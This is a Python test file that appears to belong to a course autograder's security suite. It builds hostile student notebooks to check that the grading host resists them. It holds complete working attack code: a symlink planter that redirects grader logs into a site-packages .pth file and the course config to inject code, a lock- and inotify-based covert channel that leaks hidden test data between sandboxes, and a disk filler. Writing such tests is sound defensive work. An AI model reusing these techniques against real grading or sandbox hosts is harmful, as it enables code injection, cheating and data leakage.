"""Hostile submissions against the grading host itself (issue 33, Deliver 1, 2, 4 and 6).

The other hostile tests attack the judge and the learner processes. These attack what the host
does around them: it resolves names in folders learner code can write (Deliver 1), it lets
concurrent sandboxes share an inode whose locks and inotify events every sandbox sees (Deliver 2),
it gives learner code a scratch folder on the host's own disk without a size bound (Deliver 4),
and it leaves its temporary folders behind (Deliver 6).

One class is graded once, `jobs=2`, by `course.grading.classes.autograde`, then `course feedback`
and `course grades` (module fixture). In name order, the first two students are graded at the
same time:

- `a_covert_sender` (01 and 02 answered): each answer function publishes every string it is given,
  and the strings of every row of the database it is given, that the release does not hold, as
  POSIX read locks at encoded offsets on the venv's `pyvenv.cfg` (bound read-only in every sandbox:
  one inode) and as a pattern of opens of standard-library files (inotify). A thread in each of its
  learner processes reads both channels; answers raise what they heard (a visible part shows the
  learner's message; A's 01 stays honest, to reach its hidden parts), and a cell of each notebook
  prints it after a wait.
- `b_covert_receiver`: the same, listening only, graded beside A.
- `c_symlinker` (every notebook answered: 05's checkpoint runs its worker pass in workers): a thread
  in every learner process (notebook processes, the checkpoint's implementation process, its
  workers) walks every folder it can write and plants symlinks to host paths under the names the
  grader may create (`worker.log` first) and over the files it finds: a canary outside the course,
  a `.pth` in the grading venv's site-packages, the course's `gradebook.db` and `nbgrader_config.py`.
  What a checkpoint worker writes to its stderr is Python that leaves a mark when run.
- `d_disk_filler` (01 answered): the first learner process of two checks writes 1 GiB through its
  check's scratch folder (files of 60 MiB, kept), and `claim` 256 MiB more beside the database it
  is given. Its twin, 01 answered and nothing else, is graded beside it.
A complete submission earns every autograded point of its notebooks (test_hostile_submissions
grades one): that is the twin (`COMPLETE`) of A, B and C. The rule: no attack scores more.

A second, separate run of `course autograde --jobs 2` is killed (SIGKILL to its process group)
while checks are running. Both runs point TMPDIR at a private folder, so "nothing left" is exact
even beside other graders on the machine.
"""

from __future__ import annotations

import ast
import contextlib
import hashlib
import json
import os
import shutil
import signal
import sqlite3
import subprocess
import sys
import tempfile
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
import pytest

from course.grading.classes.autograde import autograde
from course.grading.nbgrader import commands

from test_hostile_submissions import (RELEASE, SOLUTIONS, decoded, every_notebook, fingerprint, hidden_values,
                                      notebook, released_course, submit)

pytestmark = pytest.mark.slow

MiB = 1 << 20
# Arguments and database rows the hidden parts of 01 pass to `claim` (owner labels, identifiers,
# prompts, sources) that hidden_values() may not list: none is in the release.
HIDDEN_ARGUMENTS = ("recoverer", "crashed-worker", "no-such-work", "ann:1", "bob:1", "Count the chocolate tubs",
                    "Count chocolate", "Explain the count", "Older turn", "Retry later", "No orders here",
                    "Order in flight", "Cancelled mid-send", "Check the clock", "A ready turn")


# --- Deliver 1: symlinks planted where learner code can write ----------------------------------------

# Prepended to every answer cell (it starts the thread once per process) and run again by every
# answer function. `__TARGETS__` etc. are filled in by `HostTargets.source`.
SYMLINKER = r'''
import os, sys, threading, time

if "_links_start" not in globals():
    _LINK_BY_CASE = __TARGETS__   # the checkpoint's case folder -> the host path its worker.log should reach
    _LINK_ROTATION = __ROTATION__  # host paths, in turn, for any other log
    _LINK_DEFAULT = __DEFAULT__    # the host path every other name should reach
    _LINK_PAYLOAD = __PAYLOAD__    # what the worker writes on its stderr: Python that leaves a mark when run
    _LINK_AHEAD = ("worker.log", "worker.ready.json", "evidence.json", "supplier.sqlite", "supplier.log",
                   "ledger.sqlite", "ledger.json", "committed.json", "worker.stdout", "stderr.log", "stdout.log",
                   "output.log", "judge.log", "check.log", "learner.log", "verdict.json", "report.json")
    # Kept as they are: databases and the epoch marker beside them (the experiment the workers are
    # started for must run: a case that cannot claim is run again, and again), notebooks, modules.
    _LINK_KEEP = (".sqlite", ".sqlite-wal", ".sqlite-shm", ".sqlite-journal", ".db", ".authority", ".ipynb", ".py",
                  ".pyc")
    _links = {"planted": 0, "replaced": 0, "turn": 0, "thread": None, "seen": set()}

    def _link_target(folder, name):
        if name.endswith(".log"):
            case = os.path.basename(folder)
            if case in _LINK_BY_CASE:
                return _LINK_BY_CASE[case]
            _links["turn"] += 1
            return _LINK_ROTATION[_links["turn"] % len(_LINK_ROTATION)]
        return _LINK_DEFAULT

    def _link_walk(folder, depth=0):
        if depth > 8:
            return
        try:
            entries = list(os.scandir(folder))
        except OSError:
            return
        writable = os.access(folder, os.W_OK)
        try:
            seen = (folder, os.stat(folder).st_ino)
        except OSError:
            return
        if writable and seen not in _links["seen"]:  # a new folder: the names a grader may create here next
            _links["seen"].add(seen)
            for name in _LINK_AHEAD:
                try:
                    os.symlink(_link_target(folder, name), os.path.join(folder, name))
                    _links["planted"] += 1
                except OSError:
                    pass
        for entry in entries:
            try:
                if entry.is_dir(follow_symlinks=False):
                    _link_walk(entry.path, depth + 1)
                    continue
                if not writable or entry.is_symlink() or not entry.is_file(follow_symlinks=False):
                    continue  # FIFOs and sockets stay: the worker's commands, the supplier's socket
                if entry.name.endswith(_LINK_KEEP) or ".lnk-" in entry.name:
                    continue
                # Every other file, once its writer is likely done with it (logs at once).
                if entry.name.endswith(".log") or time.time() - entry.stat(follow_symlinks=False).st_mtime > 2:
                    swap = os.path.join(folder, f".lnk-{os.getpid()}-{entry.name}")
                    try:
                        os.symlink(_link_target(folder, entry.name), swap)
                        os.replace(swap, entry.path)
                        _links["replaced"] += 1
                    except OSError:
                        with __import__("contextlib").suppress(OSError):
                            os.unlink(swap)
            except OSError:
                pass

    def _link_roots():
        roots = {os.getcwd(), "/tmp", "/dev/shm", "/scratch", os.environ.get("TMPDIR") or "/tmp"}
        roots.update(value for value in os.environ.values() if value.startswith("/") and os.path.isdir(value))
        try:
            roots.update(os.path.join("/scratch", name) for name in os.listdir("/scratch"))
        except OSError:
            pass
        return sorted(root for root in roots if root != "/" and (root == "/scratch" or os.access(root, os.W_OK)))

    def _links_loop():
        while True:
            for root in _link_roots():
                _link_walk(root)
            time.sleep(0.002)

    def _links_start():
        if _links["thread"] is None or not _links["thread"].is_alive():
            _links["thread"] = threading.Thread(target=_links_loop, name="symlinker", daemon=True)
            _links["thread"].start()
        try:  # fd 2: in a checkpoint worker, the log the grader opened for it
            os.write(2, _LINK_PAYLOAD)
        except OSError:
            pass

    def _links_wrap(space, names):
        import functools
        for name in names:
            original = space.get(name)
            if type(original).__name__ != "function":
                continue

            def planting(*args, _original=original, **kwargs):
                _links_start()
                return _original(*args, **kwargs)

            space[name] = functools.update_wrapper(planting, original)

_links_start()
'''
SYMLINKER_REPORT = ('_links_start()\n'
                    'print(f"symlinker active in pid {os.getpid()}: planted {_links[\'planted\']}, '
                    'replaced {_links[\'replaced\']}, roots {_link_roots()}")')


PLANTED = b"# planted by a learner process"


@dataclass
class HostTargets:
    """The host paths the symlinker aims at, and the mark its payload leaves when run."""

    canary: Path
    pth: Path
    gradebook: Path
    config: Path
    mark: Path

    def source(self) -> str:
        by_case = {"killed": str(self.pth), "live_stale": str(self.canary), "paused": str(self.config),
                   "accepted_then_crash": str(self.gradebook)}
        rotation = [str(self.pth), str(self.canary), str(self.config), str(self.gradebook)]
        # A line of Python whatever reads it: a .pth runs lines that start with `import`; a config file runs all.
        run = (f"import os; os.path.isdir({str(self.mark.parent)!r}) and "
               f"open({str(self.mark)!r}, 'a').write('code planted by a learner ran\\n')  ")
        payload = b"\n" + run.encode() + PLANTED + b"\n"
        return (SYMLINKER.replace("__TARGETS__", repr(by_case)).replace("__ROTATION__", repr(rotation))
                .replace("__DEFAULT__", repr(str(self.canary))).replace("__PAYLOAD__", repr(payload)))


# --- Deliver 2: locks and inotify between concurrent sandboxes ------------------------------------------

COVERT = r'''
import ctypes, dataclasses, fcntl, functools, glob, json, os, sqlite3, struct, sys, threading, time, zlib

if "_covert" not in globals():
    class _Covert:
        """Strings between learner processes that share no file they can write: POSIX read locks at
        encoded offsets on a file every sandbox binds read-only (one inode: the venv's pyvenv.cfg), and
        IN_OPEN events on files of a folder every sandbox binds (the standard library's)."""

        BASE = 1 << 58
        # Standard-library files nothing imports here (an import reads bytecode, not these): two banks of 16
        # nibbles, alternating (inotify merges an unread event with an identical next one), start, end.
        SYMBOLS = tuple(f"{name}.py" for name in (
            "aifc antigravity cgi cgitb chunk crypt imghdr mailcap nntplib nturl2path pipes sndhdr sunau telnetlib "
            "uu xdrlib tabnanny this smtpd asynchat asyncore imaplib poplib ftplib wave colorsys pty tty sched "
            "shelve mailbox netrc filecmp fileinput").split())
        START, END = 32, 33
        FLOCK = "hhqqi4x"

        def __init__(self, tag, send):
            self.tag, self.send = tag, send
            self.mutex, self.sending = threading.Lock(), threading.Lock()
            self.mine, self.heard, self.published, self.channels = set(), {}, 0, []
            self.public = self._public()
            self.folder = os.path.dirname(os.__file__)
            self.paths = [os.path.join(self.folder, name) for name in self.SYMBOLS]
            try:
                self.fd = os.open(os.path.join(sys.prefix, "pyvenv.cfg"), os.O_RDONLY)
                self.channels.append("locks")
                threading.Thread(target=self._read_locks, name="locks", daemon=True).start()
            except OSError:
                self.fd = None
            try:
                libc = ctypes.CDLL(None, use_errno=True)
                self.ino = libc.inotify_init1(0o2000000)
                if self.ino >= 0 and libc.inotify_add_watch(self.ino, self.folder.encode(), 0x20) >= 0:  # IN_OPEN
                    self.channels.append("inotify")
                    threading.Thread(target=self._read_inotify, name="inotify", daemon=True).start()
            except (OSError, AttributeError):
                self.ino = -1

        @staticmethod
        def _public():
            texts = []
            for path in glob.glob(os.path.join(os.environ.get("COURSE_RELEASE", "/course/release"), "*.ipynb")):
                try:
                    for cell in json.load(open(path))["cells"]:
                        source = cell.get("source", "")
                        texts.append(source if isinstance(source, str) else "".join(source))
                except (OSError, ValueError, KeyError, TypeError):
                    pass
            return "\n".join(texts)

        # -- what a function is given --
        def strings(self, args, kwargs):
            found = []

            def add(value, depth=0):
                if isinstance(value, str):
                    found.append(value)
                elif isinstance(value, (list, tuple, set, frozenset)) and depth < 2:
                    for item in list(value)[:50]:
                        add(item, depth + 1)
                elif isinstance(value, dict) and depth < 2:
                    for key, item in list(value.items())[:50]:
                        add(key, depth + 1)
                        add(item, depth + 1)
                elif dataclasses.is_dataclass(value) and not isinstance(value, type) and depth < 2:
                    for item in dataclasses.fields(value):
                        add(getattr(value, item.name, None), depth + 1)
                else:
                    path = getattr(value, "path", None)
                    if path is None and isinstance(value, sqlite3.Connection):
                        try:
                            path = value.execute("PRAGMA database_list").fetchone()[2]
                        except Exception:
                            path = None
                    if path:
                        found.extend(self.rows(str(path)))

            for value in (*args, *kwargs.values()):
                add(value)
            return [text for text in dict.fromkeys(found) if 4 <= len(text) <= 200 and text not in self.public
                    and text.strip("0123456789abcdef-")]  # random identifiers say nothing about the tests

        @staticmethod
        def rows(path):
            texts = []
            try:
                connection = sqlite3.connect(f"file:{path}?mode=ro", uri=True, timeout=0.2)
                try:
                    for (table,) in connection.execute("SELECT name FROM sqlite_master WHERE type='table'").fetchall():
                        for row in connection.execute(f'SELECT * FROM "{table}" LIMIT 200'):
                            texts.extend(value for value in row if isinstance(value, str))
                finally:
                    connection.close()
            except sqlite3.Error:
                pass
            return texts

        # -- sending --
        def publish(self, texts):
            if not self.send:
                return
            for text in texts:
                if text in self.mine:
                    continue
                self.mine.add(text)
                data = f"{self.tag}|{text}".encode("utf-8", "replace")[:250]
                self._lock(data)
                self._open(data)
                self.published += 1

        def _lock(self, data):
            if self.fd is None:
                return
            ident = zlib.crc32(data) & 0xFFFFFF
            chunks = [(255, (len(data) << 16) | (zlib.crc32(data[::-1]) & 0xFFFF))]
            chunks += [(i // 3, int.from_bytes(data[i:i + 3].ljust(3, b"\0"), "big")) for i in range(0, len(data), 3)]
            for index, value in chunks:  # never adjacent (even offsets): the kernel would merge them
                start = self.BASE + ((((ident << 8) | index) << 24 | value) << 1)
                try:
                    fcntl.lockf(self.fd, fcntl.LOCK_SH | fcntl.LOCK_NB, 1, start, 0)
                except OSError:
                    pass

        def _open(self, data):
            frame = data + (zlib.crc32(data) & 0xFFFF).to_bytes(2, "big")
            nibbles = [n for byte in frame for n in (byte >> 4, byte & 15)]
            symbols = [self.START] + [n + 16 * (i % 2) for i, n in enumerate(nibbles)] + [self.END]
            with self.sending:
                for _ in range(2):
                    for symbol in symbols:
                        try:
                            os.close(os.open(self.paths[symbol], os.O_RDONLY))
                        except OSError:
                            return
                    time.sleep(0.002)

        # -- receiving --
        def _read_locks(self):
            while True:
                starts, stack, calls = set(), [(self.BASE, self.BASE + (1 << 58))], 0
                while stack and calls < 100_000:
                    low, high = stack.pop()
                    if low >= high:
                        continue
                    calls += 1
                    try:
                        probe = struct.pack(self.FLOCK, fcntl.F_WRLCK, 0, low, high - low, 0)
                        answer = fcntl.fcntl(self.fd, fcntl.F_GETLK, probe)
                    except OSError:
                        break
                    kind, _, start, length, _ = struct.unpack(self.FLOCK, answer)
                    if kind == fcntl.F_UNLCK:
                        continue
                    end = start + length if length > 0 else high
                    starts.add(start)
                    stack += [(low, max(low, start)), (min(high, max(end, low + 1)), high)]
                self._decode_locks(starts)
                time.sleep(0.05)

        def _decode_locks(self, starts):
            groups = {}
            for start in starts:
                if start < self.BASE or (start - self.BASE) & 1:
                    continue
                value = (start - self.BASE) >> 1
                groups.setdefault(value >> 32, {}).setdefault((value >> 24) & 0xFF, set()).add(value & 0xFFFFFF)
            for ident, parts in groups.items():
                head = parts.get(255, set())
                if len(head) != 1:
                    continue
                (head,) = head
                length, check = head >> 16, head & 0xFFFF
                count = (length + 2) // 3
                if any(len(parts.get(i, ())) != 1 for i in range(count)):
                    continue
                data = b"".join(next(iter(parts[i])).to_bytes(3, "big") for i in range(count))[:length]
                if zlib.crc32(data) & 0xFFFFFF == ident and zlib.crc32(data[::-1]) & 0xFFFF == check:
                    self._got(data, "locks")

        def _read_inotify(self):
            index = {name: number for number, name in enumerate(self.SYMBOLS)}
            nibbles = None
            while True:
                try:
                    chunk = os.read(self.ino, 65536)
                except OSError:
                    time.sleep(0.05)
                    continue
                at = 0
                while at + 16 <= len(chunk):
                    _, _, _, size = struct.unpack_from("iIII", chunk, at)
                    symbol = index.get(chunk[at + 16:at + 16 + size].split(b"\0", 1)[0].decode(errors="replace"))
                    at += 16 + size
                    if symbol is None:
                        continue
                    if symbol == self.START:
                        nibbles = []
                    elif symbol == self.END:
                        if nibbles and len(nibbles) % 2 == 0:
                            frame = bytes((nibbles[i] << 4) | nibbles[i + 1] for i in range(0, len(nibbles), 2))
                            if len(frame) > 2 and (zlib.crc32(frame[:-2]) & 0xFFFF).to_bytes(2, "big") == frame[-2:]:
                                self._got(frame[:-2], "inotify")
                        nibbles = None
                    elif nibbles is not None:
                        nibbles.append(symbol & 15)

        def _got(self, data, channel):
            text = data.decode("utf-8", "replace")
            if text.partition("|")[2] in self.mine:
                return  # its own (inotify shows a process its own opens too)
            with self.mutex:
                self.heard.setdefault(text, set()).add(channel)

        def foreign(self):
            with self.mutex:
                return sorted(f"[{'+'.join(sorted(channels))}] {text}" for text, channels in self.heard.items())

        def settle(self, seconds):
            """Wait until something was heard and nothing new for 1.5 s, at most `seconds`."""
            deadline, last, since = time.monotonic() + seconds, -1, time.monotonic()
            while time.monotonic() < deadline:
                count = len(self.heard)
                if count != last:
                    last, since = count, time.monotonic()
                elif count and time.monotonic() - since > 1.5:
                    break
                time.sleep(0.1)

        def report(self):
            heard = self.foreign()
            return "\n".join([f"covert channels open: {self.channels}; published {self.published}; heard "
                              f"{len(heard)} from other learner processes", *heard])

        def wrap(self, space, names, raising):
            for name in names:
                original = space.get(name)
                if type(original).__name__ != "function":
                    continue

                def covert(*args, _original=original, _name=name, **kwargs):
                    self.publish(self.strings(args, kwargs))
                    heard = self.foreign()
                    if raising and heard:
                        raise RuntimeError(f"`{_name}` heard from other learner processes: " + " ; ".join(heard)[:1300])
                    return _original(*args, **kwargs)

                space[name] = functools.update_wrapper(covert, original)

    _covert = _Covert(__TAG__, __SEND__)
'''
# 01's hidden parts give `claim` owner labels, identifiers and rows no learner has; 02's answers, called
# by visible parts of checks running meanwhile, raise what they heard (a visible failure shows it).
COVERT_NOTEBOOKS = ("01_claims.ipynb", "02_fencing.ipynb")
COVERT_REPORT = '''import sys as _sys
_covert.settle(__WAIT__ if _sys.argv[1:2] == [__NOTEBOOK__] else 0)  # in this notebook's own learner process
print(_covert.report())'''


# --- Deliver 4: a disk filler --------------------------------------------------------------------------

FILLER = r'''
import os

def _fill(folder, total, label):
    """Files of at most 60 MiB into `folder`, kept, until `total` bytes or a refusal."""
    written, index, block = 0, 0, b"\xa5" * (4 << 20)
    try:
        while written < total:
            with open(os.path.join(folder, f"filler-{label}-{os.getpid()}-{index}.bin"), "wb") as handle:
                size = 0
                while size < (60 << 20) and written < total:
                    handle.write(block)
                    size += len(block)
                    written += len(block)
            index += 1
    except OSError as error:
        print(f"disk filler: {written >> 20} MiB into {folder}, then {type(error).__name__}: {error}")
        raise
    print(f"disk filler: {written >> 20} MiB into {folder}, nothing refused")

def _fills(folder, what):
    """Once per folder; where checks are numbered (/scratch/check-N), in checks 1 and 2 only."""
    scratch = [name for name in (os.listdir("/scratch") if os.path.isdir("/scratch") else [])
               if name.startswith("check-")]
    if scratch and not any(name in ("check-1", "check-2") for name in scratch):
        return False
    try:
        os.close(os.open(os.path.join(folder, f".filler-{what}"), os.O_CREAT | os.O_EXCL | os.O_WRONLY))
        return True
    except OSError:
        return False
'''
FILLER_TOP = '''_scratch = os.listdir("/scratch") if os.path.isdir("/scratch") else []
for _folder in [os.path.join("/scratch", name) for name in _scratch]:
    if _fills(_folder, "top"):
        _fill(_folder, 1 << 30, "top")'''
FILLER_CLAIM = '''
_honest_claim, _filled = claim, []

def claim(db, owner, **options):
    """The first call of a filling process: 256 MiB next to the database it is given."""
    folder = str(__import__("pathlib").Path(db.path).parent)
    if not _filled and _fills(folder, "claim"):
        _filled.append(folder)
        _fill(folder, 256 << 20, "claim")
    return _honest_claim(db, owner, **options)
'''


# --- the class ---------------------------------------------------------------------------------------------

def defined(source: str) -> list[str]:
    """The functions a cell defines at top level."""
    return [node.name for node in ast.parse(source).body if isinstance(node, ast.FunctionDef)]


def answered(changes, names=None) -> dict[str, nbformat.NotebookNode]:
    """The solutions' notebooks (all, or `names`), each answer code cell rewritten by `changes(notebook, cell)`."""
    notebooks = {name: nb for name, nb in every_notebook({}).items() if names is None or name in names}
    for name, nb in notebooks.items():
        for cell in nb.cells:
            if cell.cell_type == "code" and cell.metadata.get("nbgrader", {}).get("solution"):
                cell.source = changes(name, cell.source)
    return notebooks


def symlinker(targets: HostTargets) -> dict[str, nbformat.NotebookNode]:
    prelude = targets.source()
    notebooks = answered(lambda name, source: f"{prelude}\n{source}\n_links_wrap(globals(), {defined(source)!r})")
    for nb in notebooks.values():
        nb.cells.append(nbformat.v4.new_code_cell(f"{prelude}\n{SYMLINKER_REPORT}"))
    return notebooks


def covert(tag: str, send: bool, wait: float, names=COVERT_NOTEBOOKS) -> dict[str, nbformat.NotebookNode]:
    """`names` answered; answers publish (if `send`) and listen; what was heard is raised by the answers
    (the sender's 01 stays honest, to reach its hidden parts) and printed by a cell of each notebook."""
    prelude = COVERT.replace("__TAG__", repr(tag)).replace("__SEND__", repr(send))

    def change(name: str, source: str) -> str:
        raising = not (send and name.startswith("01"))
        return f"{prelude}\n{source}\n_covert.wrap(globals(), {defined(source)!r}, raising={raising!r})"

    notebooks = answered(change, names)
    for name, nb in notebooks.items():
        own = Path(name).stem
        nb.cells.append(nbformat.v4.new_code_cell(prelude + "\n" + (  # a notebook without answers listens too
            COVERT_REPORT.replace("__WAIT__", repr(0 if send and own.startswith("01") else wait))
            .replace("__NOTEBOOK__", repr(own)))))
    return notebooks


def filler() -> dict[str, nbformat.NotebookNode]:
    claims = "01_claims.ipynb"
    cells = nbformat.read(SOLUTIONS / claims, as_version=4).cells
    solved = {c.metadata["nbgrader"]["grade_id"]: c.source for c in cells
              if c.metadata.get("nbgrader", {}).get("solution")}
    return {claims: notebook(claims, SOLUTIONS, {"claim": FILLER + solved["claim"] + FILLER_CLAIM}, [FILLER_TOP])}


COMPLETE = "complete"  # the twin of an attack on answered notebooks: every autograded point of them
# (test_hostile_submissions grades such a submission, complete_everywhere, and it earns exactly that)


def class_of_students(targets: HostTargets) -> dict[str, tuple[dict, str]]:
    """{student: (notebooks, twin)}; in name order the first two are graded at the same time (jobs=2)."""
    claims = "01_claims.ipynb"
    return {
        "a_covert_sender": (covert("A", send=True, wait=8.0), COMPLETE),
        "b_covert_receiver": (covert("B", send=False, wait=8.0), COMPLETE),
        "c_symlinker": (symlinker(targets), COMPLETE),
        "d_disk_filler": (filler(), "d_disk_filler_twin"),
        "d_disk_filler_twin": ({claims: notebook(claims, SOLUTIONS)}, COMPLETE),  # and the filler's neighbour
    }


# --- what the host looks like -------------------------------------------------------------------------------

@dataclass
class TreeDigest:
    """Every entry under a folder (links not followed): a file's hash, a link's target. A file whose
    inode, size, mtime and ctime are those of `earlier` keeps its hash there (ctime cannot be set back
    from user space), so a second digest of a large tree (the venv) costs a walk."""

    entries: dict[str, str]
    stats: dict[str, tuple]

    @classmethod
    def of(cls, folder: Path, earlier: TreeDigest | None = None) -> TreeDigest:
        entries, stats = {}, {}
        for top, folders, files in os.walk(folder):
            for name in files + [f for f in folders if os.path.islink(os.path.join(top, f))]:
                path = os.path.join(top, name)
                relative = os.path.relpath(path, folder)
                with contextlib.suppress(OSError):
                    info = os.lstat(path)
                    if os.path.islink(path):
                        entries[relative] = "link -> " + os.readlink(path)
                        continue
                    stats[relative] = (info.st_ino, info.st_size, info.st_mtime_ns, info.st_ctime_ns)
                    if earlier is not None and earlier.stats.get(relative) == stats[relative]:
                        entries[relative] = earlier.entries[relative]
                        continue
                    with open(path, "rb") as handle:
                        entries[relative] = hashlib.file_digest(handle, "sha1").hexdigest()
        return cls(entries, stats)


def changed(before: dict[str, str], after: dict[str, str]) -> dict[str, list[str]]:
    return {"new": sorted(set(after) - set(before)), "gone": sorted(set(before) - set(after)),
            "changed": sorted(p for p in set(before) & set(after) if before[p] != after[p])}


def mounts() -> set[str]:
    return {line.split()[4] for line in Path("/proc/self/mountinfo").read_text().splitlines()}


def descendants(root: int) -> set[int]:
    parents = {}
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            with contextlib.suppress(OSError, IndexError, ValueError):
                parents[int(entry)] = int(Path(f"/proc/{entry}/stat").read_text().rsplit(")", 1)[1].split()[1])
    found, frontier = set(), {root}
    while frontier:
        frontier = {pid for pid, parent in parents.items() if parent in frontier} - found
        found |= frontier
    return found


def alive(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except OSError:
        return False
    return state not in ("Z", "X")


def command(pid: int) -> str:
    with contextlib.suppress(OSError):
        return Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")[:200]
    return ""


def mentioning(*markers: str) -> set[int]:
    """Live processes whose command line names one of `markers` (a bwrap names what it binds)."""
    return {int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()
            and any(m in command(int(p)) for m in markers) and alive(int(p))}


def kill_all(pids) -> None:
    for pid in pids:
        with contextlib.suppress(ProcessLookupError, PermissionError):
            os.kill(pid, signal.SIGKILL)


class HostWatch(threading.Thread):
    """While the class is graded: every 100 ms the bytes allocated below `folder` (the grader's temp
    folder, where each student's file system is made: the most seen), the entries of `folder`, and
    whether `gradebook` holds `planted` (SQLite writes its next pages over bytes appended to its file:
    looked at afterwards, they are gone). The folder's own bytes, not its disk's free space: other
    tests fill the same disk at the same time (a hub test's environment, some 500 MiB)."""

    def __init__(self, folder: str, gradebook: Path, planted: bytes) -> None:
        super().__init__(daemon=True)
        self.folder, self.gradebook, self.planted = folder, gradebook, planted
        self.stopping, self.seen, self.gradebook_planted = threading.Event(), set(), False
        self.baseline = self.most = self.used()

    def used(self) -> int:
        total = 0
        for top, _, files in os.walk(self.folder):  # links are not followed; mounts below are entered
            for name in files:
                with contextlib.suppress(OSError):
                    total += os.lstat(os.path.join(top, name)).st_blocks * 512
        return total

    def run(self) -> None:
        while not self.stopping.wait(0.1):
            self.most = max(self.most, self.used())
            with contextlib.suppress(OSError):
                self.seen.update(os.listdir(self.folder))
                self.gradebook_planted |= self.planted in self.gradebook.read_bytes()

    def lost(self) -> int:
        return self.most - self.baseline


@contextlib.contextmanager
def private_tmpdir(prefix: str):
    """TMPDIR (and tempfile's cache of it) pointed at a new folder: what the grader leaves there is its own."""
    folder = Path(tempfile.mkdtemp(prefix=prefix, dir=tempfile.gettempdir()))  # short: sockets may live below
    saved = os.environ.get("TMPDIR")
    os.environ["TMPDIR"], tempfile.tempdir = str(folder), None
    try:
        yield folder
    finally:
        if saved is None:
            os.environ.pop("TMPDIR", None)
        else:
            os.environ["TMPDIR"] = saved
        tempfile.tempdir = None
        shutil.rmtree(folder, ignore_errors=True)


@dataclass
class Graded:
    root: Path
    targets: HostTargets
    students: dict
    results: dict
    tmp: Path
    course_before: dict
    course_after: dict
    venv_before: dict
    venv_after: dict
    lost_bytes: int
    tmp_before: set
    tmp_after: set
    tmp_seen: set
    mounts_before: set
    mounts_after: set
    left_running: dict
    gradebook_planted: bool
    errors: dict = field(default_factory=dict)


def site_packages() -> Path:
    return Path(next(p for p in sys.path if p.startswith(sys.prefix) and p.endswith("site-packages")))


@pytest.fixture(scope="module")
def released(tmp_path_factory) -> Path:
    """The toy course (test_hostile_submissions' `graded`): released once, copied by each run."""
    return released_course(tmp_path_factory.mktemp("released") / "course")


def left_over(before: set[int], *markers: str, within: float = 15.0) -> dict[int, str]:
    """Processes this process started since `before`, or naming a marker, still running after a bounded
    wait (not multiprocessing's resource tracker, which serves this process until it exits)."""
    deadline = time.monotonic() + within
    while True:
        left = {pid for pid in descendants(os.getpid()) - before if alive(pid)} | mentioning(*markers)
        left = {pid for pid in left if "multiprocessing.resource_tracker" not in command(pid)}
        if not left or time.monotonic() > deadline:
            return {pid: command(pid) for pid in left}
        time.sleep(0.2)


@pytest.fixture(scope="module")
def graded(released, tmp_path_factory):
    base = tmp_path_factory.mktemp("hostile-host")
    root = base / "course"
    shutil.copytree(released, root)
    (base / "marks").mkdir()
    targets = HostTargets(canary=base / "outside-canary.txt", pth=site_packages() / "zz_pwned.pth",
                          gradebook=root / "gradebook.db", config=root / "nbgrader_config.py",
                          mark=base / "marks" / "planted-code-ran.txt")
    assert not targets.pth.exists(), f"{targets.pth} is left from an earlier run: remove it"
    targets.canary.write_text("untouched")
    students = class_of_students(targets)
    for student, (notebooks, _) in students.items():
        submit(root, student, notebooks)
    venv_before, course_before = TreeDigest.of(Path(sys.prefix)), fingerprint(root)
    mounts_before, children_before = mounts(), descendants(os.getpid())
    errors: dict[str, str] = {}
    left_running: dict[int, str] = {}
    try:
        with private_tmpdir("hh-") as tmp:
            tmp_before = set(os.listdir(tmp))
            sampler = HostWatch(str(tmp), targets.gradebook, PLANTED)
            sampler.start()
            began = time.monotonic()
            try:
                results = {r.student: r for r in autograde(root=root, jobs=2, progress=False)}
            finally:
                sampler.stopping.set()
                sampler.join(5)
            print(f"autograde: {time.monotonic() - began:.0f} s, " + ", ".join(f"{r.student} {r.seconds:g} s"
                                                                              for r in results.values()))
            began = time.monotonic()
            try:
                commands.feedback(root=root)
            except commands.NbgraderError as error:  # a planted config, say: the tests say what changed
                errors["course feedback"] = str(error)
            done = subprocess.run([str(Path(sys.prefix) / "bin" / "course"), "grades", "--root", str(root), "--output",
                                   str(root / "grades.csv")], capture_output=True, text=True, timeout=300, check=False)
            if done.returncode:
                errors["course grades"] = (done.stderr or done.stdout)[-500:]
            print(f"feedback and grades: {time.monotonic() - began:.0f} s")
            left_running = left_over(children_before, str(tmp), str(root))
            print(f"left running: {left_running}")
            yield Graded(root, targets, students, results, tmp, course_before, fingerprint(root), venv_before.entries,
                         TreeDigest.of(Path(sys.prefix), venv_before).entries, sampler.lost(), tmp_before,
                         set(os.listdir(tmp)), sampler.seen, mounts_before, mounts(), left_running,
                         sampler.gradebook_planted, errors)
    finally:
        kill_all({pid for pid in descendants(os.getpid()) - children_before if alive(pid)} | set(left_running))
        targets.pth.unlink(missing_ok=True)  # never leave planted code in the venv


def scores(root: Path) -> dict[str, dict[str, float]]:
    """{student: {"notebook/part": points}} for the autograded parts; COMPLETE: every point of every part."""
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gb:
        found = {student.id: {f"{nb.name}/{g.name}": g.score for nb in gb.find_submission("ch12", student.id).notebooks
                              for g in nb.grades if g.cell_type == "code"}
                 for student in gb.students}
        found[COMPLETE] = {f"{nb.name}/{c.name}": c.max_score for nb in gb.find_assignment("ch12").notebooks
                           for c in nb.grade_cells if c.cell_type == "code"}
    return found


def outputs(root: Path, student: str) -> dict[str, str]:
    """{relative path: text} of the student's autograded notebooks and feedback HTML."""
    paths = [*(root / "autograded" / student).rglob("*.ipynb"), *(root / "feedback" / student).rglob("*.html")]
    return {str(p.relative_to(root)): p.read_text(errors="replace") for p in paths}


def printed(root: Path, student: str, name: str) -> str:
    """What the cells of a student's autograded notebook show (streams and errors)."""
    nb = nbformat.read(root / "autograded" / student / "ch12" / name, as_version=4)
    return "\n".join(str(o.get("text", "")) + str(o.get("evalue", "")) for c in nb.cells for o in c.get("outputs", []))


# --- Deliver 1 ----------------------------------------------------------------------------------------------

def test_the_symlinker_ran(graded):
    """Not a vacuous pass: the symlinker's thread ran where its cells' output is shown, and the
    checkpoint's checks ran (their workers and logs are what it aims at)."""
    for name in ("01_claims.ipynb", "02_fencing.ipynb", "04_recovery.ipynb"):
        assert "symlinker active" in printed(graded.root, "c_symlinker", name), name
